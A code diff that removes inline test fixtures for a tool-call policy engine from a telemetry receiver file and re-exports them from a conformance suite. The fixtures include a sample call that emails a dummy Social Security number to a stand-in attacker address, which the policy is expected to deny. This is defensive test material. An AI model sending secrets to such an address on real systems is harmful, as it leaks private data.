@@ -159,50 +159,5 @@ export class OtlpReceiver {
   }
 }
 
-/** A policy under which each call below gets the decision it is named for. */
-export const FIVE_DECISIONS = `
-policy telemetry version "1"
-
-tool files.read { args { path: string } effect read }
-tool db.query { args { sql: string, limit: number } effect read }
-tool email.send { args { to: string, body: string } effect egress target args.to }
-tool bank.pay { args { to: string, amount: number } effect egress target args.to }
-tool creds.rotate { args { name: string } effect write }
-
-fact window_open: bool
-
-deny external_mail on email.send
-  when domain(args.to) != "example.com"
-  risk high
-  because "mail leaves the company"
-modify cap_rows on db.query
-  when args.limit > 100
-  set args.limit = 100
-step_up big_payment on bank.pay
-  when args.amount > 1000
-  approvers ["finance"] timeout 1m
-defer rotation on creds.rotate
-  unless window_open
-  needs window_open timeout 1m
-
-allow reads when effect == read
-allow mail on email.send
-allow pay on bank.pay
-allow rotate on creds.rotate when window_open
-
-default deny
-`;
-
-/** One call per decision, with a sensitive value in the arguments that must never be exported. */
-export const SECRET = "SSN 123-45-6789";
-export const CALLS = [
-  { tool: "files.read", args: { path: `/notes/${SECRET}.txt` }, expect: "ALLOW" },
-  {
-    tool: "db.query",
-    args: { sql: `select * from people where note = '${SECRET}'`, limit: 500 },
-    expect: "MODIFY",
-  },
-  { tool: "email.send", args: { to: "eve@evil.example", body: SECRET }, expect: "DENY" },
-  { tool: "bank.pay", args: { to: "bob@example.com", amount: 5000 }, expect: "STEP_UP" },
-  { tool: "creds.rotate", args: { name: "db-password" }, expect: "DEFER" },
-] as const;
+/** The conformance suite's §9.8 policy, its five calls (one per decision) and the value none may export. */
+export { CALLS, FIVE_DECISIONS, SECRET } from "../../src/conformance/scenarios/r8.ts";
